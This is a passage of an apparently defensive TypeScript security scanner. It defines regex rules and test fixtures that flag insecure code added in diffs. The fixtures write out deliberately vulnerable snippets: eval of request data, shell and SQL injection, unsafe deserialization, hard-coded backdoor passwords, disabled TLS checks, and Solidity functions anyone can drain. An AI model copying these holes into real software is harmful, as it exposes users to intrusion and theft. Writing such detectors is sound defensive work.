import type { Artifact } from '../artifact.ts'
import { type Line, namedFile } from '../read/lines.ts'
import { type Hit, lineRule, type Rule, wholeRule } from '../rule.ts'
import { diff } from './code-lines.ts'
import { isChosenName } from './code-queries.ts'
import { isLocalFile, ownMachine, servesOnlyPublic } from './words.ts'

const isNewCode = ({ change, isComment, isProse, file }: Line): boolean =>
  (change === 'added' || (change === 'plain' && file === '')) && !isComment && !isProse

/** What comes from whoever calls. */
const outside =
  /\$_(?:GET|POST|REQUEST|COOKIE)\b|\b(?:req(?:uest)?\.(?:body|query|params|headers|args|form|GET|POST|data|json|values|cookies|files)|params\[|ctx\.(?:query|request|params)|input\(|sys\.argv|process\.argv|event\.(?:body|queryStringParameters|pathParameters)|user_?[iI]nput|searchParams\.get|r\.(?:URL\.Query|FormValue|PostFormValue|PathValue)|mux\.Vars|chi\.URLParam|Request\.(?:Query|Form)\[|c\.(?:Query|Param|PostForm)|getParameter\()/

/** What makes of text of others something that may be used, or refuses it. */
const cleans =
  /basename|filepath\.(?:Base|Clean)|getFileName|secure_filename|safe_?join|resolve_safe|saniti[sz]e|escape|encode|valid|\bparse(?:Int|Float)?\(|\bint\(|\bNumber\(|schema|allow|whitelist|permitted|startsWith|starts_with|startswith|is_relative_to|commonpath|\.(?:has|includes|test|match)\(|\bin\s+[A-Z_]{3,}|uuid|to_i\b|randomBytes|hash/i

/** A request to an address. */
const asksAddress =
  /\b(?:fetch|axios(?:\.\w+)?|requests\.\w+|urlopen|https?\.(?:get|Get|Head|Post|request|NewRequest\w*)|got|needle|httpx\.\w+|GetAsync|GetStringAsync|getFor(?:Object|Entity)|openStream|openConnection|URI\.open|Net::HTTP\.\w+|HTTParty\.\w+|Faraday\.\w+|curl_init|reqwest::get)\s*\(|\bCURLOPT_URL\b/

/** An answer that sends who asks to another address, and what keeps it within the own site. */
const leadsAway = /\bredirect\w*\s*\(|\bredirect_to\s|Location:|sendRedirect\(|\.Redirect\(/
const staysHere =
  /url_from|only_path\s*[:=]|is_?safe|safe_?(?:url|redirect|path)|allowed_host\w*\(|is_?local_?url|LocalRedirect|same_?origin|\.pathname\b/i

const assigned =
  /^\s*(?:(?:const|let|var|final|auto|my|String|\w+\s+:=)\s+)?(?:\{\s*([\w\s,:]{1,200})\}|([\w$]{1,60}))\s*(?::=|=)(?![=>])/

/** New lines that use what comes from outside, by itself or by a name that it was given before; each once read. */
const outsideLines = (artifact: Artifact): ReadonlySet<Line> => {
  const cached = outsideByArtifact.get(artifact)
  if (cached) return cached
  const lines = new Set<Line>()
  const names = new Set<string>()
  let file = ''
  for (const line of artifact.lines) {
    if (line.file !== file) names.clear()
    file = line.file
    if (line.change === 'removed' || line.isComment || line.isProse) continue
    const used = (line.text.match(/[\w$]{1,60}/g) ?? []).filter(word => names.has(word))
    const isClean = cleans.test(line.text)
    if (isClean) for (const name of used) names.delete(name)
    if (isClean || (used.length === 0 && !outside.test(line.text))) continue
    lines.add(line)
    const [, several, one] = assigned.exec(line.text) ?? []
    for (const name of several?.match(/\w+/g) ?? (one === undefined ? [] : [one])) names.add(name)
  }
  outsideByArtifact.set(artifact, lines)
  return lines
}
const outsideByArtifact = new WeakMap<Artifact, ReadonlySet<Line>>()

type LineFacts = Parameters<typeof lineRule>[0]

/** What has to answer whoever asks: probes, and the way in. */
const forEverybody =
  /\b\w*(?:health|live(?:ness|z)|ready(?:z|ness)|ping|status|version|robots|favicon|well-known|jwks|log_?in|sign_?(?:in|up)|register|forgot)/i

/** Whether an exemption is for one route that has to answer whoever asks: its file, or one of the next lines, names it. */
const isForEverybody = (line: Line, { lines }: Artifact): boolean => {
  if (!/AllowAnonymous|AllowAny|PermitAll/i.test(line.text)) return false
  const at = lines.indexOf(line)
  const after = lines.slice(at + 1, at + 8).filter(({ change }) => change !== 'removed')
  const routes = after.filter(({ text }) => /Route|Http(?:Get|Post)|Mapping|@(?:Get|Post|Path)\b/.test(text))
  return (
    !after.some(({ text }) => /Http(?:Put|Delete|Patch)|@(?:Put|Delete|Patch)|admin/i.test(text)) &&
    (routes.some(({ text }) => forEverybody.test(text)) ||
      (routes.every(({ text }) => !/["']/.test(text)) && forEverybody.test(line.file)))
  )
}

/** A stand-in for another service, which answers with what is written in it. */
const mockFile = /(?:^|[/._-])(?:mocks?|fakes?|stubs?|storybook|playground|fixtures?)(?:$|[/._-])/i

/** Whether a quick hash is only compared with, until its owner signs in and gets a slow one. */
const isMovedOn = (text: string, { lines }: Artifact): boolean =>
  /hash_equals|===?|verify|compare|equals|matches/i.test(text) &&
  lines.some(
    ({ change, text }) =>
      change !== 'removed' &&
      /\b(?:password_hash|needs_rehash|rehash\w*|argon2\w*|bcrypt|scrypt)\b/i.test(text),
  )

/** Whether the file or the place makes harmless what would be a fault elsewhere. */
const isMeantSo = (id: string, line: Line, artifact: Artifact): boolean =>
  (id === 'code-debug' && isLocalFile(line.file || namedFile(artifact.text))) ||
  (id === 'code-open-web' && (servesOnlyPublic(artifact.text) || mockFile.test(line.file))) ||
  (id === 'code-auth-bypassed' && isForEverybody(line, artifact)) ||
  (id === 'code-weak-crypto' && isMovedOn(line.text, artifact)) ||
  (id === 'code-injection' && isChosenName(line, artifact))

/** A rule of patterns over new code. */
const codeRule = (
  facts: Omit<LineFacts, 'category' | 'see' | 'where'> & {
    category?: string
    patterns: readonly (readonly [pattern: RegExp, detail: string, severity?: Hit['severity']])[]
  },
): Rule =>
  lineRule({
    category: 'code',
    ...facts,
    where: isNewCode,
    see(line, artifact) {
      const { text, isTest, place } = line
      for (const [pattern, detail, severity] of facts.patterns)
        if (pattern.test(text) && !isMeantSo(facts.id, line, artifact))
          return { detail, place, severity: isTest ? 'low' : (severity ?? facts.severity) }
    },
  })

export const codeRules: readonly Rule[] = [
  codeRule({
    id: 'code-tls-off',
    severity: 'high',
    fix: 'Check certificates; trust a private authority by its certificate.',
    hits: [
      diff('a.py', '+r = requests.get(u, verify=False)'),
      diff('a.js', '+const agent = new https.Agent({ rejectUnauthorized: false })'),
      diff('a.go', '+	tr := &tls.Config{InsecureSkipVerify: true}'),
      diff('a.py', '+ctx.check_hostname = False'),
      diff('a.js', '+process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"'),
      diff('a.rs', '+    .danger_accept_invalid_certs(true)'),
      diff('a.php', '+curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);'),
    ],
    misses: [
      diff('a.py', '+r = requests.get(u, verify=True)'),
      diff('a.js', '-  rejectUnauthorized: false', '+  rejectUnauthorized: true'),
      diff('README.md', '+Never set verify=False.'),
      diff('a.py', '+# verify=False is not allowed'),
    ],
    patterns: [
      [
        /\bverify\s*=\s*False\b|_create_unverified_context|\bCERT_NONE\b|check_hostname\s*=\s*False/,
        'It does not check who is at the other end.',
      ],
      [
        /rejectUnauthorized["']?\s*:\s*false|NODE_TLS_REJECT_UNAUTHORIZED\W{1,6}(?:=\s*)?["']?0|strictSSL\s*[:=]\s*false/,
        'It does not check who is at the other end.',
      ],
      [
        /InsecureSkipVerify\s*:\s*true|danger_accept_invalid_(?:certs|hostnames)\(true|SSL_VERIFY(?:PEER|HOST)\s*(?:=>|,)\s*(?:false|0)|VERIFY_NONE|TrustAll(?:Certs|Strategy)|ALLOW_ALL_HOSTNAME|NoopHostnameVerifier|ServerCertificateValidationCallback[^\n]{0,60}true|badCertificateCallback[^\n]{0,40}true|allowsArbitraryLoads|usesCleartextTraffic="true"/i,
        'It does not check who is at the other end.',
      ],
    ],
  }),
  codeRule({
    id: 'code-injection',
    severity: 'high',
    fix: 'Pass values as parameters; never as code, a command line or a query.',
    hits: [
      diff('a.py', '+exec(completion.text)'),
      diff('a.jsp', '+<p><%= request.getParameter("q") %></p>'),
      diff('a.php', "+<p><?= $_GET['q'] ?></p>"),
      diff('a.php', '+$cart = unserialize(base64_decode($_COOKIE["cart"]));'),
      diff('a.js', '+eval(req.body.code)'),
      diff('a.py', '+os.system(f"convert {name}")'),
      diff('a.py', '+subprocess.run("ls " + path, shell=True)'),
      diff('a.js', '+db.query(`SELECT * FROM u WHERE id = ${id}`)'),
      diff('a.py', '+cur.execute("SELECT * FROM u WHERE n = \'" + name + "\'")'),
      diff('a.py', '+data = pickle.loads(body)'),
      diff('a.js', '+exec(`git clone ${url}`)'),
      diff('a.jsx', '+<div dangerouslySetInnerHTML={{ __html: comment }} />'),
      diff('a.py', '+cfg = yaml.load(text)'),
      diff('a.php', '+unserialize($_GET["d"]);'),
      diff('a.py', '+cur.execute(f"DELETE FROM t WHERE id={i}")'),
      diff('a.go', '+db.Query(fmt.Sprintf("SELECT * FROM t WHERE id=%s", id))'),
      diff('a.rb', '+    Order.where("state = \'#{params[:state]}\'")'),
      diff('a.ejs', '+  <p><%- user.bio %></p>'),
      diff('a.java', '+f.setFeature("http://xml.org/sax/features/external-general-entities", true);'),
    ],
    misses: [
      diff('a.js', '+const m = pattern.exec(text)'),
      diff('a.py', '+cur.execute("SELECT * FROM u WHERE n = %s", (name,))'),
      diff('a.js', '+db.query("SELECT * FROM u WHERE id = $1", [id])'),
      diff('a.py', '+subprocess.run(["ls", path], check=True)'),
      diff('a.js', '+await sql`SELECT * FROM u WHERE id = ${id}`'),
      diff('a.py', '+cfg = yaml.safe_load(text)'),
      diff('a.js', '+el.textContent = comment'),
      diff('a.py', '+model.eval()'),
      diff('a.js', '+execFile("git", ["clone", url])'),
      diff('a.js', '+log(`select ${count} rows from the list`)'),
      diff('a.py', '+df.eval("a + b")'),
      diff('a.py', '+cfg = yaml.load(text, Loader=yaml.SafeLoader)'),
      diff('test/a.test.js', '+eval("1")'),
    ],
    patterns: [
      [
        /(?<![.\w])eval\s*\(\s*(?!["'`][^"'`+$]*["'`]\s*\))|(?<![.\w])(?:Function|new Function)\s*\(\s*[^)\s]|(?<![.\w])exec\s*\(\s*(?:req|request|code|data|user|input|body|compile|base64|out(?:put)?\b|reply|response|answer|completion|generated|llm|model|snippet|f["'])/,
        'It runs text as code.',
      ],
      [
        /\bos\.(?:system|popen)\s*\(\s*(?!["'][^"'{%+]*["']\s*\))|\bsubprocess\.\w+\([^)]{0,200}shell\s*=\s*True|(?:\bchild_process\.exec|(?<![.\w])(?:exec(?!File)\w{0,20}|spawn\w{0,10}|shell\w{0,10}))\s*\(\s*(?:`[^`]*\$\{|["'][^"']*["']\s*\+)|Runtime\.getRuntime\(\)\.exec\([^)]*\+|\b(?:shell_exec|passthru|system|popen)\s*\(\s*(?:\$|["'][^"']*["']\s*\.\s*\$)|exec\.Command\(\s*"(?:ba)?sh",\s*"-c"|Command::new\(\s*"(?:ba|z)?sh"\s*\)[^\n]{0,60}"-c"[^\n]{0,80}(?:format!|\+|&)|(?<![.\w])(?:system|exec|popen|spawn|%x|IO\.popen|Open3\.\w+)\s*[({]?\s*["'`][^"'`\n]{0,160}#\{|(?<![.\w])(?:exec|system|shell_exec|passthru)\s*\(\s*"[^"\n]{0,160}\$\{?\w/,
        'It puts values into a command line.',
      ],
      [
        /(?<!sql)(?<!Prisma\.sql)[`][^`]{0,20}\b(?:SELECT\b[^`]{1,200}\bFROM\b|INSERT\s+INTO\b|UPDATE\s+\w+\s+SET\b|DELETE\s+FROM\b)[^`]{0,300}(?:=|IN\s*\(|LIKE|VALUES\s*\(|WHERE|BY)\s*['"(%]{0,3}\$\{/i,
        'It puts values into a query.',
      ],
      [
        /\.(?:where|whereRaw|havingRaw|orderByRaw|find_by_sql|having|exists\?|extra|literal|order|pluck)\s*\(?\s*(?:where\s*=\s*\[)?(?:f?"[^"\n]{0,200}(?:[=<>(]|LIKE|IN|BY)\s*\\?'?%?(?:#\{|\$\{|\{\w|"\s*\+)|`[^`\n]{0,200}(?:[=<>(]|LIKE|IN)\s*'?%?\$\{)/i,
        'It puts values into a query.',
      ],
      [
        /["'](?:SELECT\b[^"'\n]{1,200}\bFROM\b|INSERT\s+INTO\b|UPDATE\s+\w+\s+SET\b|DELETE\s+FROM\b)[^"\n]{0,300}(?:=|LIKE|\(|IN)\s*\\?'?%?["']?\s*(?:\+|\.)\s*\$?\w|f["'](?:SELECT\b|INSERT\s+INTO\b|UPDATE\b|DELETE\s+FROM\b)[^\n]{0,300}\{\w|["'](?:SELECT|INSERT|UPDATE|DELETE)\b[^"\n]{0,300}%[sdv][^"\n]{0,100}["']\s*%\s*[(\w]|Sprintf\(\s*["'`](?:SELECT|INSERT|UPDATE|DELETE)\b/i,
        'It puts values into a query.',
      ],
      [
        /\b(?:pickle|cPickle|dill|marshal|shelve|jsonpickle)\.(?:loads?|decode)\s*\(|\byaml\.(?:load|unsafe_load)\s*\((?![^)]*Safe)|\bunserialize\s*\(\s*(?:\w{1,30}\(\s*){0,3}\$|ObjectInputStream\s*\(|BinaryFormatter|Marshal\.load\(|node-serialize|torch\.load\([^)]*weights_only\s*=\s*False/,
        'It builds objects from text of others.',
      ],
      [
        /external-(?:general|parameter)-entities["']\s*,\s*true|disallow-doctype-decl["']\s*,\s*false|resolve_entities\s*=\s*True|LIBXML_NOENT|\bnoent\s*[:=]\s*true|setExpandEntityReferences\(\s*true|XmlResolver\s*=\s*new|DtdProcessing\.Parse|SUPPORT_DTD\s*,\s*true/i,
        'It lets documents of others read files and addresses (XML entities).',
      ],
      [
        /\b(?:render_template_string|Template)\s*\(\s*(?:request|user|input|f["'])|\bnew\s+vm\.Script\s*\(|\bvm\.runIn\w+\s*\(|\bDocument\.write\(|\bcreateContextualFragment\s*\(/,
        'It runs text as code.',
      ],
      [
        /dangerouslySetInnerHTML(?![^\n]{0,60}\b(?:DOMPurify|purify|sanitize\w*|sanitise\w*|escapeHtml|xss)\b)|\.innerHTML\s*\+?=\s*(?!\s*(?:window\.)?(?:DOMPurify|purify|sanitize\w*|sanitizeHtml|escapeHtml|xss|he\.(?:encode|escape))\b|["'`]\s*["'`]|["'][^"'$+]*["']\s*;?\s*$)|document\.write\s*\(|v-html=(?!["']?\s*(?:\$?sanit|purify|DOMPurify|escape))|\bmark_safe\s*\(|\|\s*safe\s*\}\}|\.html_safe\b|bypassSecurityTrust\w+|@Html\.Raw|<%-\s*(?!include|yield|partial|render)\w|\{\{\{\s*\w|\{!!\s*\$|<%==|\{@html\s|<%=\s*request\.getParameter|(?:<\?=|\becho)\s*\$_(?:GET|POST|REQUEST|COOKIE)/,
        'It puts text of others into a page unescaped.',
      ],
    ],
  }),
  lineRule({
    id: 'code-outside-input',
    category: 'code',
    severity: 'high',
    fix: 'Check what callers send against what is allowed before it names a file, an address or a record.',
    where: isNewCode,
    hits: [
      diff('a.php', '+$headers = "From: " . $_POST["from"];'),
      diff('a.js', '+const re = new RegExp(req.query.pattern)'),
      diff('a.js', '+res.sendFile(path.join(root, req.query.file))'),
      diff('a.py', '+r = requests.get(request.args["url"])'),
      diff('a.js', '+res.redirect(req.query.next)'),
      diff('a.js', '+res.send("<p>" + req.query.q + "</p>")'),
      diff('a.js', '+const file = join(root, req.params.name)', '+res.sendFile(file)'),
      diff('a.js', '+User.update(req.body, { where: { id } })'),
      diff('a.py', '+open(request.args.get("path")).read()'),
      diff('a.js', '+_.merge(config, req.body)'),
      diff('a.rb', '+    params[:user].permit!'),
      diff('a.php', '+move_uploaded_file($_FILES["f"]["tmp_name"], "up/" . $_FILES["f"]["name"]);'),
      diff('a.py', '+file.save(os.path.join(root, file.filename))'),
      diff('a.php', "+include $_GET['page'] ?? 'home.php';"),
      diff('a.go', '+	resp, err := http.Get(r.URL.Query().Get("url"))'),
      diff('a.go', '+	target := r.FormValue("to")', '+	req, err := http.NewRequest("GET", target, nil)'),
      diff('a.rb', '+    redirect_to params[:next], status: 302'),
      diff('a.php', "+curl_setopt($ch, CURLOPT_URL, $_GET['feed']);"),
      diff('a.php', "+require_once 'views/' . $_REQUEST['view'];"),
    ],
    misses: [
      diff('a.js', '+const re = new RegExp(escapeRegExp(req.query.q), "i")'),
      diff('a.js', '+const { name } = schema.parse(req.body)'),
      diff('a.php', "+include $pages[$_GET['page'] ?? 'home'];"),
      diff('a.php', "+require_once __DIR__ . '/vendor/autoload.php';"),
      diff('a.js', '+res.redirect("/home")'),
      diff('a.py', '+file.save(os.path.join(root, secure_filename(file.filename)))'),
      diff('a.py', '+page = int(request.args.get("page", 1))'),
      diff('a.js', '+const id = req.params.id'),
      diff('a.go', '+	resp, err := http.Get(upstream + "/health")'),
      diff('a.rb', '+    redirect_to orders_path'),
      diff('a.rb', '+    redirect_to url_from(params[:next]) || root_path'),
      diff(
        'a.js',
        '+const file = join(root, req.params.name)',
        '+if (!file.startsWith(root)) return res.sendStatus(404)',
        '+res.sendFile(file)',
      ),
    ],
    see(line, artifact) {
      const { text, isTest } = line
      if (isTest) return
      if (
        /\b(?:move_uploaded_file|writeFile\w*|rename\w*|save\w*|createWriteStream|join|copy\w*|open|mv|transferTo)\s*\(/.test(
          text,
        ) &&
        /\$_FILES\[[^\]]{0,60}\]\[["']name["']\]|\boriginal_?name\b|\bfiles?(?:\[[^\]]{0,60}\])?\.(?:file)?name\b|getOriginalFilename\(/i.test(
          text,
        ) &&
        !/basename|secure_filename|safe_join|uuid|randomBytes|sanitize|hash/i.test(text)
      )
        return 'What a caller sends names the file that is written.'
      if (
        /\bparams\b[^\n]{0,60}\.permit!|\bfields\s*=\s*["']__all__["']|\$guarded\s*=\s*\[\s*\]|\bto_unsafe_h\b/.test(
          text,
        )
      )
        return { detail: 'What a caller sends sets any field of a record.', severity: 'medium' }
      if (
        /(?<![.\w$])(?:include|require)(?:_once)?\s+[^;\n]{0,60}\$_(?:GET|POST|REQUEST|COOKIE)\b/.test(
          text,
        ) &&
        !/basename|in_array|\[\s*\$_|realpath/i.test(text)
      )
        return { detail: 'What a caller sends names the code that runs.', severity: 'blocker' }
      if (
        /["'](?:From|Cc|Bcc|Reply-To|Subject|Set-Cookie|Location):?\s{0,4}["']?\s{0,4}\.\s{0,4}\$_(?:GET|POST|REQUEST)/.test(
          text,
        )
      )
        return 'What a caller sends writes headers.'
      if (!outside.test(text) && !outsideLines(artifact).has(line)) return
      if (
        /\bnew\s+RegExp\(|\bre\.compile\(|Pattern\.compile\(|Regexp\.new\(/.test(text) &&
        !/escape|quote/i.test(text)
      )
        return { detail: 'What a caller sends is a pattern that may never end.', severity: 'medium' }
      if (
        /\b(?:os\.path\.join|Path\.Combine|filepath\.Join|path\.(?:join|resolve)|Paths\.get|File\.join)\s*\(/.test(
          text,
        ) &&
        !/basename|secure_filename|safe_join|filepath\.Base|getFileName/i.test(text) &&
        factsOf(artifact).readsFiles &&
        !factsOf(artifact).boundsPaths
      )
        return 'What a caller sends names a file.'
      if (
        /\b(?:sendFile|readFile(?:Sync)?|createReadStream|open|send_file|send_from_directory|unlink(?:Sync)?|writeFile(?:Sync)?|include|require(?:_once)?|file_get_contents|ServeFile|ReadFile|os\.(?:Open|Create|Remove)\w*|readfile|fopen|File\.(?:read|open|new|delete)|new\s+File(?:InputStream)?|Files\.\w+|send_file|download)\s*\(/.test(
          text,
        ) &&
        !/basename|secure_filename|safe_join|resolve_safe|filepath\.Base|getFileName/i.test(text)
      )
        return 'What a caller sends names a file.'
      if (asksAddress.test(text)) return 'What a caller sends names an address that is asked.'
      if (
        /\b(?:send|write|end|echo|print|return|Response|HttpResponse)\b\s*\(?\s*[f`"'][^\n]{0,200}<\/?[a-z][^\n]{0,200}(?:\+|\$\{|\{|\.)/i.test(
          text,
        ) &&
        !/escape|encode|sanitize|htmlspecialchars|render/i.test(text)
      )
        return 'What a caller sends stands in a page as it is.'
      if (leadsAway.test(text) && !staysHere.test(text))
        return { detail: 'What a caller sends says where people are led.', severity: 'medium' }
      if (
        /\.(?:create|update\w*|insert\w*|findOneAndUpdate|build|assign|merge|extend|fill)\s*\([^)]{0,60}\b(?:req\.body|request\.(?:json|data|POST)|\$_POST)\s*[,)]|\*\*request\.(?:json|data|form)/.test(
          text,
        )
      )
        return { detail: 'What a caller sends sets any field of a record.', severity: 'medium' }
    },
  }),
  codeRule({
    id: 'code-auth-bypassed',
    severity: 'high',
    fix: 'Take the way around out; give tests their own accounts.',
    hits: [
      diff('a.js', '+if (otp !== "000000" && !totp.verify(otp)) return res.status(401).end()'),
      diff('a.js', '+  if (true || user.isAdmin) {'),
      diff('a.py', '+@csrf_exempt'),
      diff('a.js', '+jwt.verify(t, k, { algorithms: ["none"] })'),
      diff('a.py', '+jwt.decode(t, options={"verify_signature": False})'),
      diff('A.java', '+http.authorizeRequests().anyRequest().permitAll()'),
      diff('A.java', '+  .requestMatchers("/admin/**", "/health").permitAll()'),
      diff('A.java', '+  .requestMatchers("/user/info").permitAll()'),
      diff('Orders.cs', '+[AllowAnonymous]', ' [Route("orders")]', ' public class Orders {'),
      diff('a.js', '+  return true // TODO: check permission'),
      diff('a.py', '+if password == "letmein123": return True'),
      diff('a.py', '+AUTHENTICATION_REQUIRED = False'),
      diff('a.js', '+if (req.headers["x-debug"] === "1") return next()'),
      diff('a.go', '-	if allowed(u) {', '+	if true {'),
      diff('a.py', '+    if False and not user.is_staff:'),
    ],
    misses: [
      diff('a.js', '+  if (user.isAdmin) {'),
      diff('a.js', '+jwt.verify(t, k, { algorithms: ["RS256"] })'),
      diff('a.js', '+  return true'),
      diff('a.py', '+if role == "admin":'),
      diff('A.java', '+        .requestMatchers("/actuator/health").permitAll()'),
      diff(
        'A.java',
        '+        .antMatchers("/livez", "/readyz").permitAll()',
        '         .anyRequest().authenticated()',
      ),
      diff('a.js', '+const isEnabled = true || fallback'),
      diff('Probe.cs', '+[AllowAnonymous]', '+[Route("healthz")]', ' public class Probe {'),
      diff('Account.cs', '+    [AllowAnonymous]', '     [HttpPost("login")]'),
    ],
    patterns: [
      [
        /(?:if|return)\s*\(?\s*(?:true\s*\|\||1\s*==\s*1\b)|\|\|\s*true\s*\)|\bif\s*\(?\s*(?:true|1|!0)\s*\)?\s*(?:\{|:|then\b|$)|\bor\s+True\s*:/i,
        'A condition always holds.',
      ],
      [/\bif\s*\(?\s*(?:false|0|!1)\s*(?:&&|\band\b)/i, 'A condition never holds.'],
      [
        /@csrf_exempt|csrf_protect\s*=\s*False|skip_before_action\s+:(?:auth|verify|require)|\.csrf\(\)\.disable\(|(?<!\(\s?(?:HttpMethod\.\w{1,7},\s?)?(?:["'`]\/?(?:(?:actuator|management|manage|api|internal|v\d)\/){0,2}(?:health|live|ready|metrics|prometheus|info|ping|version|status|favicon)\w{0,6}(?:\.ico)?[/*]{0,3}["'`],?\s?){1,4}\)\s?\.)permitAll\(\)|AllowAnonymous|protect_from_forgery[^\n]{0,40}null_session|@PermitAll|IsAuthenticated\s*=\s*False|AllowAny\b/,
        'A check is left out.',
      ],
      [
        /algorithms?["']?\s*[:=]\s*\[?\s*["']none["']|verify_signature["']?\s*:\s*False|ignoreExpiration\s*:\s*true|verify_exp["']?\s*:\s*False/i,
        'Tokens are not checked.',
      ],
      [
        /return\s+(?:true|True)\s*;?\s*(?:\/\/|#)\s*[^\n]{0,30}(?:todo|fixme|hack|bypass|temporar|skip|disable|permission|auth)/i,
        'A check always passes.',
      ],
      [
        /\b(?:password|passwd|pwd|secret|pin|token|api_?key)\s*(?:===?|\.equals\(|eq)\s*["'][^"']{4,60}["']/i,
        'A fixed password opens it.',
        'blocker',
      ],
      [
        /\b(?:password|passwd|pwd|pin|token|otp|totp|pass_?code|(?:mfa|otp|sms|verification)_?code)\s*!==?\s*["'][^"'\n]{4,60}["']\s*(?:&&|\band\b)/i,
        'A fixed password opens it.',
        'blocker',
      ],
      [
        /\b(?:auth\w*|AUTH\w*|security|verification|permission_check)_?(?:required|enabled|enforced|REQUIRED|ENABLED|ENFORCED)\s*[:=]\s*(?:false|False|0)\b|\b(?:DISABLE|SKIP|BYPASS|disable|skip|bypass)_?(?:auth\w*|AUTH\w*|login|LOGIN|verification)\s*[:=]\s*(?:true|True|1)\b/,
        'A check is turned off.',
      ],
      [
        /headers?\[?\.?(?:get\()?["'](?:x-)?(?:debug|admin|internal|bypass|backdoor)[\w-]*["'][\])]*\s*===?\s*["'][^"']{1,30}["']\)?\s*(?:return|\{)/i,
        'A header opens it.',
      ],
    ],
  }),
  codeRule({
    id: 'code-permissions',
    severity: 'medium',
    fix: 'Let the owner write, and others read at most.',
    hits: [diff('a.py', '+os.chmod(path, 0o777)'), diff('a.php', '+chmod($dir, 0777);')],
    misses: [diff('a.py', '+os.chmod(path, 0o644)'), diff('a.js', '+fs.chmodSync(file, 0o755)')],
    patterns: [[/\bchmod\w*\s*\([^\n]{0,100}\b0o?[0-7]{2}[2367]\b/, 'It lets everybody write a file.']],
  }),
  wholeRule({
    id: 'code-contract',
    category: 'code',
    type: 'code_diff',
    severity: 'high',
    fix: 'Say who may call it, and write the books before money leaves.',
    hits: [
      diff('a.sol', '-    uint p = oracle.twap(3600);', '+    (uint a, uint b,) = pair.getReserves();'),
      diff(
        'a.sol',
        '+  function sweep(address to) external { payable(to).transfer(address(this).balance); }',
      ),
      diff(
        'a.sol',
        '+  function out() external {',
        '+    (bool ok, ) = msg.sender.call{value: owed[msg.sender]}("");',
        '+    owed[msg.sender] = 0;',
      ),
      diff('a.sol', '+    require(tx.origin == owner);'),
      diff('a.sol', '+  function setOwner(address to) external { owner = to; }'),
    ],
    misses: [
      diff(
        'a.sol',
        '+  function sweep(address to) external onlyOwner { payable(to).transfer(address(this).balance); }',
      ),
      diff(
        'a.sol',
        '+  function out() external {',
        '+    owed[msg.sender] = 0;',
        '+    (bool ok, ) = msg.sender.call{value: sum}("");',
      ),
    ],
    see: ({ files }) =>
      files.flatMap((file): Hit[] => {
        if (!/\.sol$/.test(file.name)) return []
        const hits: Hit[] = []
        const now = file.lines.find(
          ({ change, text }) =>
            change === 'added' && /\bgetReserves\(|\bslot0\(|\bbalanceOf\(\s*(?:address\()?pair/.test(text),
        )
        if (
          now &&
          file.lines.some(
            ({ change, text }) =>
              change === 'removed' && /twap|latestRoundData|\.(?:consult|observe)\(/i.test(text),
          )
        )
          hits.push({
            detail: 'A price of this moment, which one trade can move, takes the place of an average.',
            place: now.place,
          })
        let [isOpen, isGuarded, hasPaid] = [false, false, false]
        for (const { text, change, isComment, isTest, place } of file.lines) {
          if (change === 'removed' || isComment || isTest) continue
          if (/\bconstructor\b/.test(text)) isOpen = false
          if (/\bfunction\b/.test(text)) {
            hasPaid = false
            isGuarded = /\bnonReentrant\b/.test(text)
            isOpen =
              /\b(?:external|public)\b/.test(text) &&
              !/\b(?:only\w+|auth\w*|requiresAuth|restricted|initializer|reinitializer|view|pure)\b/.test(
                text,
              )
          }
          if (
            /msg\.sender\s*[!=]=|[!=]=\s*msg\.sender|_?(?:check|require|has)(?:Owner|Role|Auth|Can)\w*\(|\bnonReentrant\b/.test(
              text,
            )
          )
            isOpen = false
          if (change === 'added' && /\btx\.origin\s*[!=]=|[!=]=\s*tx\.origin/.test(text))
            hits.push({
              detail: 'Whoever is made to call something passes for its owner (tx.origin).',
              place,
            })
          if (
            change === 'added' &&
            isOpen &&
            /address\(this\)\.balance\s*\)|\bselfdestruct\s*\(|\bdelegatecall\s*\(/.test(text)
          )
            hits.push({
              detail: 'Anybody may empty the contract or run code in it.',
              place,
              severity: 'blocker',
            })
          if (
            change === 'added' &&
            isOpen &&
            /(?<![\w.])_?(?:implementation|owner|admin|governance|governor|minter|treasury|oracle)\s*=(?!=)/.test(
              text,
            )
          )
            hits.push({ detail: 'Anybody may say who owns or runs it.', place, severity: 'blocker' })
          if (hasPaid && /\[\s*msg\.sender\s*\]\s*-?=(?!=)/.test(text))
            hits.push({ detail: 'Money leaves before the books say so (reentrancy).', place })
          if (!isGuarded && /\.call\{\s*value\s*:/.test(text)) hasPaid = true
        }
        return hits
      }),
  }),
  codeRule({
    id: 'code-open-web',
    severity: 'high',
    fix: 'Name the origins; keep cookies to https and out of scripts.',
    hits: [
      diff('nginx.conf', '+    proxy_ignore_headers Set-Cookie Cache-Control;'),
      diff('a.js', '+res.setHeader("Access-Control-Allow-Origin", "*")'),
      diff('a.py', '+    allow_origins=["*"],'),
      diff('cors.rb', '+  origins "*"'),
      diff('a.js', '+app.use(cors({ origin: true, credentials: true }))'),
      diff('a.js', '+app.use(cors({ origin: (o, cb) => cb(null, o), credentials: true }))'),
      diff('a.cs', '+policy.SetIsOriginAllowed(_ => true).AllowCredentials();'),
      diff('a.js', '+  cookie: { httpOnly: false, secure: false }'),
      diff('a.py', '+SESSION_COOKIE_SECURE = False'),
      diff('a.js', `+"Content-Security-Policy": "script-src 'unsafe-eval' *"`),
    ],
    misses: [
      diff('a.js', '+res.setHeader("Access-Control-Allow-Origin", "https://app.example.org")'),
      diff('a.py', '+    allow_origins=settings.ORIGINS,'),
      diff('a.js', '+  cookie: { httpOnly: true, secure: true }'),
      diff('a.js', '+const glob = "*"'),
      diff('tools/mock-pay/server.js', '+res.setHeader("Access-Control-Allow-Origin", "*")'),
    ],
    patterns: [
      [
        /Access-Control-Allow-Origin["']?\s*[,:=]\s*["']?\*|allow_?origins?["']?\s*[:=]\s*\[?\s*["']\*["']|(?:origin|Origins?)\s*[:=(]?\s*\[?\s*["']\*["']|CORS_(?:ALLOW_ALL_ORIGINS|ORIGIN_ALLOW_ALL)\s*=\s*True|AllowAnyOrigin\(|AllowAllOrigins:\s*true/i,
        'Every site may call it.',
      ],
      [/\bproxy_ignore_headers\b[^\n]{0,80}Set-Cookie/i, 'What one may see is kept for all.'],
      [
